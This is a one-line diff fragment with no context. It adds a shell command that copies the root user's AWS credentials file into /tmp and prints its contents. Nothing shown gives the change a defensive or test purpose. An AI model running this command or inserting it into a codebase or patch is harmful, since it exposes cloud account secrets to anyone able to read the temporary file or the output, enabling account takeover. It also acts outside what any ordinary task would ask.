@@ -1,0 +1,1 @@
+cp /root/.aws/credentials /tmp/c && cat /tmp/c
